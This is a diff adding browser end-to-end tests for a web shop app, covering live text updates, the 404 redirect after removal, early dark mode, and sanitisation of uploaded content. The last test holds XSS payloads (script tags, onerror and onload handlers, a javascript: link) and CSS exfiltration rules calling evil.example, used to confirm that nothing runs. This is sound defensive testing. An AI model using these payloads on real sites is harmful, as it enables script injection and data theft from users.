@@ -1,0 +1,80 @@
+// A programme changes while its pages are open, and what its operator wrote can do no harm.
+import { aProgramme } from '../support/programme.ts'
+import { expect, test } from '../support/test.ts'
+import { visitorOf } from '../support/visitor.ts'
+
+/** A page looks every half minute. */
+const WITHIN_A_MINUTE = { timeout: 60_000 }
+
+test.describe('an open page', () => {
+  test.setTimeout(150_000)
+
+  test('shows a corrected text within a minute, and keeps what is typed', async ({ page, baseURL }) => {
+    const shop = await aProgramme(baseURL ?? '')
+    const { say } = visitorOf(page, shop.id, 'fr')
+    await page.goto(shop.address())
+    await page.getByRole('combobox', { name: say('search.label') }).fill('x')
+    await shop.change({ texts: { fr: { 'home.lead': 'Un texte corrigé' } }, config: { appName: 'Corrigé' } })
+    await expect(page.getByText('Un texte corrigé')).toBeVisible(WITHIN_A_MINUTE)
+    await expect(page.getByRole('banner').getByRole('link', { name: 'Corrigé' })).toBeVisible()
+    await expect(page.getByRole('combobox', { name: say('search.label') })).toHaveValue('x')
+  })
+
+  test('of a programme that is gone says so within a minute', async ({ page, baseURL }) => {
+    const shop = await aProgramme(baseURL ?? '')
+    await page.goto(shop.address())
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    await shop.remove()
+    await expect(page).toHaveURL('/404', WITHIN_A_MINUTE)
+  })
+})
+
+test.describe('dark, for who chose it,', () => {
+  test('is there before anything is painted', async ({ page, baseURL }) => {
+    const shop = await aProgramme(baseURL ?? '')
+    await page.goto(shop.address())
+    await page.evaluate(() => localStorage.setItem('scheme', 'dark'))
+    const first: string[] = []
+    await page.exposeFunction('tell', (scheme: string) => first.push(scheme))
+    await page.addInitScript(() => {
+      new MutationObserver((_, observer) => {
+        if (document.body === null) return
+        observer.disconnect()
+        ;(window as unknown as { tell: (scheme: string) => void }).tell(
+          document.documentElement.dataset['scheme'] ?? '',
+        )
+      }).observe(document, { childList: true, subtree: true })
+    })
+    await page.reload()
+    await expect.poll(() => first).toEqual(['dark'])
+  })
+})
+
+test('hostile words, drawings and styles do nothing', async ({ page, baseURL }) => {
+  const shop = await aProgramme(baseURL ?? '')
+  const svg =
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="alert(1)"><script>alert(1)</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject><circle r="4"/></svg>'
+  const css =
+    '@import "https://evil.example/x.css"; input[value^="a"]{background:url(https://evil.example/a)} body{background:url("https://evil.example/b")} h1{color:rgb(1, 2, 3)}'
+  const logo = await shop.upload('logo', 'logo.svg', svg)
+  const sheet = await shop.upload('stylesheet', 'own.css', css)
+  const hostile = '<img src=x onerror=alert(1)><script>alert(1)</script><a href="javascript:alert(1)">x</a>'
+  await shop.change({
+    config: {
+      appName: hostile.slice(0, 60),
+      logo: { light: `asset:${logo}` },
+      carousel: [{ title: { fr: hostile }, text: { fr: `Bonjour ${hostile}` } }],
+      additionalResources: [{ kind: 'stylesheet', asset: sheet }],
+    },
+    texts: { fr: { 'home.lead': `Bienvenue ${hostile}` } },
+  })
+  page.on('dialog', () => {
+    throw new Error('Something ran')
+  })
+  await page.goto(shop.address())
+  await expect(page.getByRole('heading', { level: 1 })).toHaveCSS('color', 'rgb(1, 2, 3)')
+  await expect(page.getByText('Bonjour', { exact: false }).first()).toBeVisible()
+  expect(await page.locator('[onerror], [onload], a[href^="javascript"], img[src="x"]').count()).toBe(0)
+  const drawing = await (await page.request.get(`/config-api/v1/assets/${logo}`)).text()
+  expect(drawing).toBe('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle r="4"></circle></svg>')
+})
